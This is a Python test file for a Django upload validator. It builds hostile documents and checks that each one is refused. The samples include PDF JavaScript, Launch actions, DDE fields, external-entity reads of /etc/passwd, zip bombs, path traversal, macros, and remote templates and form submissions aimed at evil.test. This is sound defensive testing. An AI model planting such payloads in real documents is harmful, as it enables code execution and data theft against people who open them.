"""Files that mean harm, or are not what they say: each is refused for its reason, and told how to be mended."""

import io
import subprocess
import sys
import time
import zipfile
import zlib

import pytest
from django.conf import settings
from django.test import override_settings
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import DictionaryObject, NameObject, PdfObject, TextStringObject

from documents.files import apart, looking
from documents.files.apart import look_apart
from documents.files.checking import SENTENCES, FileRefused, check
from documents.files.formats import Format, format_of
from documents.files.plain import words_of
from documents.files.refused import Refused, Why
from tests.documents.files.made import (
    OFFICE,
    PACKAGE,
    TYPES,
    W,
    docx,
    entry,
    field,
    odt,
    pdf,
    relation,
    relations,
    updated_pdf,
    written_pdf,
    zipped,
)

OLE = bytes.fromhex("d0cf11e0a1b11ae1")
BOMB = docx(parts={"word/media/1.png": bytes(45_000_000)})
ENTITY = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
WORKBOOK = zipped({"[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"/>', "xl/workbook.xml": "<a/>"})
WITH_MACROS = zipped({"[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"/>', "xl/vbaProject.bin": b"a"})
FOR_MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
WORKSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
CHART = "word/embeddings/Sheet1.xlsx"
DDE = field("DDEAUTO c:\\a.exe")
HEADER = f'<w:hdr xmlns:w="{W}">{DDE}</w:hdr>'
SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
ELSEWHERE = "http://evil.test/a.png"


def action(kind: str, **more: str):
    """A PDF that acts when it is opened."""

    def add(writer: PdfWriter) -> None:
        made: dict[NameObject, PdfObject] = {NameObject("/S"): NameObject(kind)}
        made |= {NameObject(f"/{key}"): TextStringObject(value) for key, value in more.items()}
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(made)

    return pdf(add)


def under_a_password(data: bytes) -> bytes:
    """With the mark of encryption on each part of a zip, as other programs than Word set it."""
    return data.replace(b"PK\x03\x04\x14\x00\x00\x00", b"PK\x03\x04\x14\x00\x01\x00").replace(
        b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00"
    )


def twice_the_same() -> bytes:
    made = io.BytesIO(docx())
    with zipfile.ZipFile(made, "a") as target, pytest.warns(UserWarning, match="Duplicate name"):
        target.writestr("word/document.xml", "<a/>")
    return made.getvalue()


def hidden_script() -> bytes:
    """Its name written with a code in the place of a letter."""
    return action("/JavaScript", JS="app.alert(1)").replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53")


def packed(thing: str) -> bytes:
    """A stream with an object in it, which no table lists."""
    stream = zlib.compress(f"9 0 {thing}".encode())
    head = f"<< /Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode] /Length {2 * len(stream)} >>"
    return written_pdf(more=[f"{head}\nstream\n{stream.hex()}\nendstream"])


def with_a_decoy() -> bytes:
    """The list of types names a harmless document first; the package relates to another one, which Word opens."""
    real = f'<w:document xmlns:w="{W}"><w:body>{DDE}</w:body></w:document>'
    types = f'<Override PartName="/word/real.xml" ContentType="{TYPES}document.main+xml"/>'
    top = relations(relation("officeDocument", "word/real.xml", "Internal"))
    return docx(types=types, parts={"word/real.xml": real, "_rels/.rels": top})


def meta(inner: str) -> str:
    spaces = f'xmlns:office="{OFFICE}office:1.0" xmlns:meta="{OFFICE}meta:1.0"'
    return f'<office:document-meta {spaces} xmlns:xlink="http://www.w3.org/1999/xlink">{inner}</office:document-meta>'


REFUSED: dict[str, tuple[bytes, str, Why]] = {
    "empty": (b"", "a.pdf", Why.EMPTY),
    "only spaces": (b" \r\n\0\0", "a.txt", Why.EMPTY),
    "a program": (b"MZ\x90\0\x03" + bytes(60), "a.pdf", Why.UNKNOWN),
    "a script": (b"#!/bin/sh\nrm -rf /", "a.txt", Why.UNKNOWN),
    "a picture": (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "a.pdf", Why.UNKNOWN),
    "a text that is no paper": (b"a;b;c", "a.csv", Why.UNKNOWN),
    "a page of HTML": (b"<!DOCTYPE html><script>alert(1)</script>", "a.txt", Why.MARKUP),
    "a drawing with a script": (b"<svg onload='alert(1)'/>", "a.md", Why.MARKUP),
    "an old .doc": (OLE + bytes(600), "a.doc", Why.OLD_WORD),
    "rich text": (b"{\\rtf1 hello}", "a.rtf", Why.RICH_TEXT),
    # names that say otherwise
    "a PDF called .docx": (pdf(), "a.docx", Why.NAMED_OTHERWISE),
    "a Word file called .pdf": (docx(), "a.pdf", Why.NAMED_OTHERWISE),
    "a text called .pdf": (b"Depths", "a.pdf", Why.NAMED_OTHERWISE),
    "a PDF called .exe": (pdf(), "a.exe", Why.NAMED_OTHERWISE),
    # letters
    "a text of Windows": ("Ríos".encode("cp1252"), "a.txt", Why.NOT_UTF8),
    "a text in UTF-16": ("Ríos".encode("utf-16"), "a.txt", Why.NOT_UTF8),
    # passwords
    "a Word file under a password": (OLE + "EncryptedPackage".encode("utf-16-le"), "a.docx", Why.PASSWORD),
    "a zip under a password": (under_a_password(docx()), "a.docx", Why.PASSWORD),
    "an ODT under a password": (
        odt(manifest=entry("content.xml", "text/xml", "<manifest:encryption-data/>")),
        "a.odt",
        Why.PASSWORD,
    ),
    "a PDF under a password": (pdf(lambda writer: writer.encrypt("a", algorithm="RC4-128")), "a.pdf", Why.PASSWORD),
    "a PDF that may not be printed": (
        pdf(lambda writer: writer.encrypt("", "b", algorithm="RC4-128")),
        "a.pdf",
        Why.PASSWORD,
    ),
    # macros
    "a Word file made for macros": (docx(main=FOR_MACROS), "a.docm", Why.MACROS),
    "macros in a .docx": (docx(parts={"word/vbaProject.bin": b"a"}), "a.docx", Why.MACROS),
    "macros under another name": (
        docx(rels=relation("vbaProject", "notes.bin", "Internal"), parts={"word/notes.bin": b"a"}),
        "a.docx",
        Why.MACROS,
    ),
    "macros behind a chart": (docx(parts={CHART: WITH_MACROS}), "a.docx", Why.MACROS),
    "Basic in an ODT": (odt(parts={"Basic/Standard/Module1.xml": "<a/>"}), "a.odt", Why.MACROS),
    "Python in an ODT": (odt(parts={"Scripts/python/a.py": "import os"}), "a.odt", Why.MACROS),
    "a script on a button": (
        odt('<text:a xlink:href="vnd.sun.star.script:a.b?language=Basic">a</text:a>'),
        "a.odt",
        Why.MACROS,
    ),
    # PDFs that act
    "a script in a PDF": (action("/JavaScript", JS="app.alert(1)"), "a.pdf", Why.SCRIPTS),
    "a hidden script": (hidden_script(), "a.pdf", Why.SCRIPTS),
    "a script to which no page leads": (
        pdf(lambda writer: writer._add_object(DictionaryObject({NameObject("/JS"): TextStringObject("a()")}))),
        "a.pdf",
        Why.SCRIPTS,
    ),
    "a PDF that starts a program": (action("/Launch", F="cmd.exe"), "a.pdf", Why.SCRIPTS),
    "a script that stands second": (
        written_pdf(f"/OpenAction [3 0 R /Fit] /OpenAction {SCRIPT}"),
        "a.pdf",
        Why.SCRIPTS,
    ),
    "a script behind a stray bracket": (written_pdf(f"/X ) /OpenAction {SCRIPT}"), "a.pdf", Why.SCRIPTS),
    "a script behind a null": (written_pdf(f"null /OpenAction {SCRIPT}"), "a.pdf", Why.SCRIPTS),
    "a hidden script behind a null": (
        written_pdf("null /OpenAction << /#53%a\n/J#61vaScript /JS (a) >>"),
        "a.pdf",
        Why.SCRIPTS,
    ),
    "a script whose kind is told elsewhere": (
        written_pdf("null /OpenAction << /S 4 0 R /JS (a) >>", more=["/JavaScript"]),
        "a.pdf",
        Why.SCRIPTS,
    ),
    "a script in packed objects": (packed(f"<< null /A {SCRIPT} >>"), "a.pdf", Why.SCRIPTS),
    "a key that stands twice": (
        written_pdf("/AA << >> /AA 4 0 R", more=["<< >>"]),
        "a.pdf",
        Why.BROKEN,
    ),
    "a change that is not ended": (updated_pdf("/OpenAction 3 0 R"), "a.pdf", Why.BROKEN),
    "a change whose end is none": (updated_pdf("/OpenAction 3 0 R", "a %%EOF\na\n"), "a.pdf", Why.BROKEN),
    "a change behind a remark": (
        b"%startxref".join(updated_pdf("/OpenAction 3 0 R", "%%EOF\n").rsplit(b"startxref", 1)),
        "a.pdf",
        Why.BROKEN,
    ),
    "a PDF that sends a form": (action("/SubmitForm", F="https://evil.test/"), "a.pdf", Why.SCRIPTS),
    # other files inside
    "a program in a PDF": (
        pdf(lambda writer: writer.add_attachment("a.txt", b"MZ\x90\0")),
        "a.pdf",
        Why.OTHER_FILES,
    ),
    "an object of another program": (docx(parts={"word/embeddings/oleObject1.bin": OLE}), "a.docx", Why.OTHER_FILES),
    "ActiveX": (docx(parts={"word/activeX/activeX1.xml": "<a/>"}), "a.docx", Why.OTHER_FILES),
    "a page of HTML that Word takes in": (
        docx(rels=relation("aFChunk", "a.html", "Internal"), parts={"word/a.html": "<b>a</b>"}),
        "a.docx",
        Why.OTHER_FILES,
    ),
    "a program among the pictures": (
        docx(rels=relation("package", "media/x.dat", "Internal"), parts={"word/media/x.dat": b"MZ\x90\0"}),
        "a.docx",
        Why.OTHER_FILES,
    ),
    "an object in an ODT": (
        odt(manifest=entry("Object 1", "application/vnd.sun.star.oleobject")),
        "a.odt",
        Why.OTHER_FILES,
    ),
    # from outside
    "a picture from outside": (docx(rels=relation("image", "https://evil.test/a.png")), "a.docx", Why.FROM_OUTSIDE),
    "a template from outside": (
        docx(parts={"word/_rels/settings.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships">'
                    + relation("attachedTemplate", "https://evil.test/a.dotm") + "</Relationships>"}),
        "a.docx",
        Why.FROM_OUTSIDE,
    ),
    "a template of another machine": (
        docx(rels=relation("attachedTemplate", "file:///\\\\evil\\a.dotm")),
        "a.docx",
        Why.FROM_OUTSIDE,
    ),
    "a field that starts a program": (docx(field("DDE", "AUTO c:\\a.exe")), "a.docx", Why.FROM_OUTSIDE),
    "a field that brings in a file": (
        docx('<w:p><w:fldSimple w:instr=" INCLUDETEXT http://evil.test/a "/></w:p>'),
        "a.docx",
        Why.FROM_OUTSIDE,
    ),
    "a picture of an ODT from outside": (
        odt('<text:p><draw:image xlink:href="http://evil.test/a.png"/></text:p>'),
        "a.odt",
        Why.FROM_OUTSIDE,
    ),
    "a text of an ODT from beside it": (
        odt('<text:p><draw:object xlink:href="../a.odt"/></text:p>'),
        "a.odt",
        Why.FROM_OUTSIDE,
    ),
    "a PDF that goes to another machine": (
        written_pdf("/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) /D [0 /Fit] >>"),
        "a.pdf",
        Why.FROM_OUTSIDE,
    ),
    "a PDF that goes to a file at an address": (
        written_pdf("/OpenAction << /S /GoToR /F 4 0 R >>", more=["<< /Type /Filespec /UF (https://evil.test/a) >>"]),
        "a.pdf",
        Why.FROM_OUTSIDE,
    ),
    "a picture of a PDF from outside": (
        written_pdf(more=["<< /Length 0 /F << /FS /URL /F (a.png) >> >>\nstream\n\nendstream"]),
        "a.pdf",
        Why.FROM_OUTSIDE,
    ),
    "a field in a header": (
        docx(rels=relation("header", "header1.xml", "Internal"), parts={"word/header1.xml": HEADER}),
        "a.docx",
        Why.FROM_OUTSIDE,
    ),
    "a field in a header named otherwise": (
        docx(rels=relation("header", "HEADER1.dat", "Internal"), parts={"word/header1.DAT": HEADER}),
        "a.docx",
        Why.FROM_OUTSIDE,
    ),
    "a field behind a decoy": (with_a_decoy(), "a.docx", Why.FROM_OUTSIDE),
    "a relation in capitals": (
        docx(parts={"word/_rels/settings.xml.RELS": relations(relation("image", ELSEWHERE))}),
        "a.docx",
        Why.FROM_OUTSIDE,
    ),
    "a picture on a button of an ODT": (
        odt(f'<text:p xmlns:form="{OFFICE}form:1.0"><form:button form:image-data="{ELSEWHERE}"/></text:p>'),
        "a.odt",
        Why.FROM_OUTSIDE,
    ),
    "the data of a form of an ODT": (
        odt(f'<xforms:instance xmlns:xforms="http://www.w3.org/2002/xforms" src="{ELSEWHERE}"/>'),
        "a.odt",
        Why.FROM_OUTSIDE,
    ),
    "an ODT that loads another": (
        odt(parts={"meta.xml": meta(f'<meta:auto-reload xlink:href="{ELSEWHERE}" meta:delay="PT1S"/>')}),
        "a.odt",
        Why.FROM_OUTSIDE,
    ),
    "a template of an ODT on another machine": (
        odt(parts={"meta.xml": meta('<meta:template xlink:href="file:////evil/a.ott"/>')}),
        "a.odt",
        Why.FROM_OUTSIDE,
    ),
    "an address behind a blank": (
        odt(f'<text:p><draw:image xlink:href=" {ELSEWHERE}"/></text:p>'),
        "a.odt",
        Why.FROM_OUTSIDE,
    ),
    # zips
    "a bomb": (BOMB, "a.docx", Why.UNPACKS_TO_TOO_MUCH),
    "thousands of parts": (docx(parts={str(number): b"" for number in range(2_001)}), "a.docx", Why.MANY_PARTS),
    "entities": (docx(parts={"word/document.xml": f"{ENTITY}<a/>"}), "a.docx", Why.HARMFUL),
    "entities in an ODT": (odt(parts={"content.xml": f"{ENTITY}<a/>"}), "a.odt", Why.HARMFUL),
    "a way out": (docx(parts={"../../etc/cron.d/a": "a"}), "a.docx", Why.HARMFUL),
    "a part that is there twice": (twice_the_same(), "a.docx", Why.BROKEN),
    "two parts that capitals tell apart": (docx(parts={"word/Document.xml": "<a/>"}), "a.docx", Why.BROKEN),
    "another zip": (zipped({"a.txt": "a"}), "a.docx", Why.UNKNOWN),
    "a spreadsheet": (docx(main=WORKSHEET), "a.docx", Why.OTHER_OFFICE),
    "a template": (docx(main=f"{TYPES}template.main+xml"), "a.docx", Why.OTHER_OFFICE),
    "a spreadsheet as an ODT": (odt(kind="spreadsheet"), "a.odt", Why.OTHER_OFFICE),
    # cut off, or broken
    "a PDF that was cut off": (pdf()[:-200], "a.pdf", Why.BROKEN),
    "a PDF in name only": (b"%PDF-1.7\n%%EOF", "a.pdf", Why.BROKEN),
    "a Word file that was cut off": (docx()[:-100], "a.docx", Why.BROKEN),
    "no XML": (docx(parts={"word/document.xml": "<w:document"}), "a.docx", Why.BROKEN),
    "an ODT without a text": (odt()[:-60], "a.odt", Why.BROKEN),
}  # fmt: skip


def look(data: bytes, name: str) -> str:
    """As `check` does, in this process: a process for each of sixty files would take a minute."""
    its_format = format_of(data)
    if its_format == Format.TEXT:
        return words_of(data)
    return "\n".join(looking.look(data, its_format))


@pytest.fixture
def _looked_at_here(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("documents.files.checking.look_apart", lambda data, its_format: look(data, ""))


@pytest.mark.usefixtures("_looked_at_here")
@pytest.mark.parametrize("case", REFUSED)
def test_a_hostile_file_is_refused_for_its_reason(case):
    data, name, why = REFUSED[case]

    with pytest.raises(FileRefused) as refused:
        check(data, name)

    assert refused.value.why == why
    assert "%" not in str(refused.value)


def test_every_reason_is_tried_and_has_its_sentence():
    tried = {why for _data, _name, why in REFUSED.values()}

    assert set(SENTENCES) == set(Why) == tried | {Why.TOO_LARGE, Why.TOO_SLOW}
    assert len({str(sentence) for sentence in SENTENCES.values()}) == len(Why)


def test_a_file_that_is_too_large_is_refused_before_anybody_looks_at_it():
    with (
        override_settings(LARGEST_FILE=3_000_000),
        pytest.raises(FileRefused, match="larger than 3 megabytes") as refused,
    ):
        check(b"a" * 3_000_001, "a.txt")

    assert refused.value.why == Why.TOO_LARGE


def test_a_refusal_for_the_name_says_both():
    with pytest.raises(FileRefused) as refused:
        check(b"Depths", "report.PDF")

    assert str(refused.value).startswith("The name of this file ends in .pdf, but what is in it is plain text.")


ACCEPTED = {
    "a link to a page": docx(rels=relation("hyperlink", "https://oas.test/")),
    "a template on the writer's disk": docx(rels=relation("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm")),
    "a chart with its numbers": docx(parts={CHART: WORKBOOK}),
    "a field with the number of the page": docx(field("PA", "GE") + "<w:p/>"),
    "a link in an ODT": odt('<text:p><text:a xlink:href="https://oas.test/">a</text:a></text:p>'),
    "a chart in an ODT": odt(manifest=entry("Object 1/", "application/vnd.oasis.opendocument.chart")),
    "libraries with nothing in them": odt(before="<office:scripts><office:script> </office:script></office:scripts>"),
    "a link in a PDF": pdf(lambda writer: writer.add_annotation(0, Link(rect=(0, 0, 9, 9), url="https://oas.test/"))),
    "a template of an ODT on the writer's disk": odt(
        parts={"meta.xml": meta('<meta:template xlink:href="../Templates/a.ott"/>')}
    ),
    "a header with the number of the page": docx(
        rels=relation("header", "header1.xml", "Internal"),
        parts={"word/header1.xml": HEADER.replace("DDEAUTO", "PAGE")},
    ),
    "a PDF written by hand, changed, and ended": updated_pdf("/PageMode /UseOutlines", "%%EOF\n"),
    "a PDF with another end behind it": written_pdf(behind=b"%%EOF\n"),
    "a title with the name of an action": written_pdf("/Lang (en/Launch)"),
    "a PDF that goes to the file beside it": written_pdf("/OpenAction << /S /GoToR /F (annex.pdf) /D [0 /Fit] >>"),
    "a calendar in a PDF": pdf(lambda writer: writer.add_attachment("a.ics", b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n")),
}


@pytest.mark.parametrize("case", ACCEPTED)
def test_what_looks_like_harm_and_is_everyday_is_taken(case):
    look(ACCEPTED[case], "")


# ---- apart


def test_the_process_beside_says_what_a_look_here_says():
    assert look_apart(pdf(), Format.PDF) == look(pdf(), "") == "Depth of rivers"
    with pytest.raises(Refused) as refused:
        look_apart(BOMB, Format.DOCX)
    assert refused.value.why == Why.UNPACKS_TO_TOO_MUCH


def test_what_no_reader_foresaw_is_told_as_a_broken_file():
    """Not as one that is too slow, which it would be told as if its process only ended."""
    with pytest.raises(Refused) as refused:
        look_apart(odt(parts={"META-INF/manifest.xml": "<a/>", "content.xml": ""}), Format.TEXT)

    assert refused.value.why == Why.BROKEN


def test_a_file_that_takes_too_long_is_refused_in_time():
    begun = time.monotonic()
    with pytest.raises(Refused) as refused:
        look_apart(pdf(), Format.PDF, seconds=0.001)

    assert refused.value.why == Why.TOO_SLOW
    assert time.monotonic() - begun < apart.SECONDS


def test_the_process_beside_needs_nothing_of_django():
    """It starts in a fraction of a second, and has neither settings nor a database that a file could reach."""
    command = "import sys, documents.files.apart; sys.exit('django' in sys.modules)"

    assert subprocess.run([sys.executable, "-c", command], cwd=settings.BASE_DIR).returncode == 0
